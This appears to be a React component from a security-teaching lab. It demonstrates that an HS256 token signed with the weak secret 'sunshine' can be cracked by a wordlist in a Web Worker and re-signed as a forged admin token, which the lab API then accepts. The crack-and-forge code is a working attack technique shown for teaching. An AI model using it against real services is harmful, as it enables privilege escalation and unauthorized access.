import { decodeJwt, decodeProtectedHeader, SignJWT } from 'jose';
import { useState } from 'react';
import { seededEmail, signIn } from '../../../scenarios/auth/auth-http.ts';
import { pageSandbox } from '../../panels/scenario-player/page-sandbox.ts';
import { labCall } from './lab-api.ts';
import { labTransport } from './lab-http.ts';

const WEAK = 'sunshine';

function crackInWorker(token: string, onProgress: (tried: number, total: number) => void) {
  return new Promise<{ secret: string | undefined; tried: number }>((resolve, reject) => {
    const worker = new Worker(new URL('./crack.worker.ts', import.meta.url), { type: 'module' });
    worker.onmessage = (event: MessageEvent) => {
      if (event.data.kind === 'progress') onProgress(event.data.tried, event.data.total);
      else {
        worker.terminate();
        resolve(event.data);
      }
    };
    worker.onerror = (error) => {
      worker.terminate();
      reject(new Error(error.message));
    };
    worker.postMessage({ token });
  });
}

/**
 * The weak secret: HS256 with `hs256_secret: "sunshine"`. One captured token, a wordlist cracked
 * in a Web Worker, and a forged admin token that even the BCP verifier accepts.
 */
export function WeakSecretPanel() {
  const [lines, setLines] = useState<string[]>([]);
  const [result, setResult] = useState<{ status: number } | undefined>();
  const [busy, setBusy] = useState(false);
  const say = (line: string) => setLines((all) => [...all, line]);

  async function run() {
    setBusy(true);
    setLines([]);
    setResult(undefined);
    try {
      await pageSandbox.enter({ settings: true });
      await labCall('PATCH', '/__admin/settings', {
        auth: { alg: 'HS256', hs256_secret: WEAK, verifier: 'bcp' },
      });
      say(`The API signs with HS256 and the secret “${WEAK}” (a word, not a key).`);
      const member = await signIn(labTransport, await seededEmail(labTransport, 'member'));
      say('A member signs in; the attacker captures the access token.');
      const cracked = await crackInWorker(member.access_token, (tried, total) =>
        setLines((all) => [
          ...all.filter((line) => !line.startsWith('Trying')),
          `Trying… ${tried} of ${total} words`,
        ]),
      );
      if (!cracked.secret) {
        say('Not in the wordlist.');
        return;
      }
      say(
        `Cracked in the worker after ${cracked.tried} guesses: “${cracked.secret}”. No request to the API was needed.`,
      );
      const { kid } = decodeProtectedHeader(member.access_token);
      const forged = await new SignJWT({
        ...decodeJwt(member.access_token),
        scope: 'read write admin',
      })
        .setProtectedHeader({ alg: 'HS256', typ: 'at+jwt', kid })
        .sign(new TextEncoder().encode(cracked.secret));
      say('Forged: the same claims, scope “read write admin”, signed with the cracked secret.');
      await labCall('PATCH', '/__admin/settings', { auth: { enforce: 'writes' } });
      const product = (await labCall('GET', '/api/v1/products?limit=1')).json?.data?.[0];
      const reply = await labCall(
        'PATCH',
        `/api/v1/products/${product?.id}`,
        { stock: product?.stock },
        { Authorization: `Bearer ${forged}` },
      );
      say(
        `PATCH /api/v1/products/${product?.id} (admin only, enforce: writes) with the forged token → ${reply.status}. The BCP verifier checked everything, and the key itself was the weakness.`,
      );
      setResult({ status: reply.status });
    } finally {
      await pageSandbox.leave();
      setBusy(false);
    }
  }

  return (
    <section className="card auth-card" aria-labelledby="auth-weak-title">
      <h2 id="auth-weak-title">A weak secret</h2>
      <p className="auth-note">
        Verification cannot save a weak key (RFC 8725 §3.5). The settings go back when it ends.
      </p>
      <button type="button" className="primary" onClick={() => void run()} disabled={busy}>
        Crack it and forge an admin token
      </button>
      <ol className="auth-steps" data-testid="weak-secret-steps">
        {lines.map((line) => (
          <li key={line}>{line}</li>
        ))}
      </ol>
      {result && (
        <p
          role="status"
          data-testid="weak-secret-result"
          className={result.status === 200 ? 'auth-accepted' : ''}
        >
          Forged admin token:{' '}
          {result.status === 200 ? 'accepted (200)' : `refused (${result.status})`}
        </p>
      )}
    </section>
  );
}
